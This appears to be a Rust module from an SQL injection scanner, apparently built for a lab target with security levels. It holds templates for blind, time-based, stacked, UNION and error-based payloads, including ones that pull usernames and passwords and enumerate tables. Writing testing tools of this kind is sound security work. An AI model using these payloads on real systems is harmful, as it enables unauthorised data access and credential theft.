//! Per-technique payload templates, parameterized by quoting context
//!
//! Every payload exists in two variants keyed on [`QuoteContext`]: the
//! medium level concatenates the id into a numeric position (no quote
//! escape, `#` comment), every other level splices it into a quoted string
//! (leading `'`, `-- ` comment terminator). The lookup is fixed per level;
//! nothing is inferred from responses.

use crate::models::QuoteContext;

/// A true-condition / false-condition payload pair
#[derive(Debug, Clone)]
pub struct PayloadPair {
    pub truthy: String,
    pub falsy: String,
}

/// Second-order write payload plus the fragment expected to resurface when
/// the target stores it unescaped
#[derive(Debug, Clone)]
pub struct SecondOrderPayload {
    pub payload: String,
    pub fragment: String,
}

/// Boolean-blind condition pair
pub fn boolean_pair(ctx: QuoteContext) -> PayloadPair {
    match ctx {
        QuoteContext::Numeric => PayloadPair {
            truthy: "1 AND 1=1 #".to_string(),
            falsy: "1 AND 1=2 #".to_string(),
        },
        QuoteContext::Quoted => PayloadPair {
            truthy: "1' AND 1=1 -- ".to_string(),
            falsy: "1' AND 1=2 -- ".to_string(),
        },
    }
}

/// Conditional-delay pair for the time-based oracle
pub fn time_pair(ctx: QuoteContext, delay_secs: u64) -> PayloadPair {
    match ctx {
        QuoteContext::Numeric => PayloadPair {
            truthy: format!("1 AND IF(1=1, SLEEP({delay_secs}), 0) #"),
            falsy: format!("1 AND IF(1=2, SLEEP({delay_secs}), 0) #"),
        },
        QuoteContext::Quoted => PayloadPair {
            truthy: format!("1' AND IF(1=1, SLEEP({delay_secs}), 0) -- "),
            falsy: format!("1' AND IF(1=2, SLEEP({delay_secs}), 0) -- "),
        },
    }
}

/// Stacked-query payload appending a second statement
pub fn piggyback(ctx: QuoteContext) -> String {
    match ctx {
        QuoteContext::Numeric => "1; SELECT SLEEP(1) #".to_string(),
        QuoteContext::Quoted => "1; SELECT SLEEP(1); -- ".to_string(),
    }
}

/// UNION payload selecting sensitive user columns
pub fn union_data(ctx: QuoteContext) -> String {
    match ctx {
        QuoteContext::Numeric => "1 UNION SELECT user, password FROM users #".to_string(),
        QuoteContext::Quoted => "1' UNION SELECT user, password FROM users -- ".to_string(),
    }
}

/// UNION payload selecting from the metadata catalog
pub fn union_schema(ctx: QuoteContext) -> String {
    match ctx {
        QuoteContext::Numeric => {
            "1 UNION SELECT NULL, table_name FROM information_schema.tables #".to_string()
        }
        QuoteContext::Quoted => {
            "' UNION SELECT NULL, table_name FROM information_schema.tables -- ".to_string()
        }
    }
}

/// Payload forcing an XPATH error that leaks the current database name
pub fn error_probe(ctx: QuoteContext) -> String {
    match ctx {
        QuoteContext::Numeric => {
            "1 AND updatexml(1, concat(0x7e, database(), 0x7e), 1) #".to_string()
        }
        QuoteContext::Quoted => {
            "1' AND updatexml(1, concat(0x7e, database(), 0x7e), 1) -- ".to_string()
        }
    }
}

/// Quote-bearing marker stored by the second-order write path.
///
/// The fragment keeps the raw quote: a target that escapes on write emits
/// `\'` on the read path and the literal fragment no longer matches.
pub fn second_order(ctx: QuoteContext) -> SecondOrderPayload {
    let payload = match ctx {
        QuoteContext::Numeric => "aletheia2ndorder' #".to_string(),
        QuoteContext::Quoted => "aletheia2ndorder' -- ".to_string(),
    };
    SecondOrderPayload {
        payload,
        fragment: "aletheia2ndorder'".to_string(),
    }
}
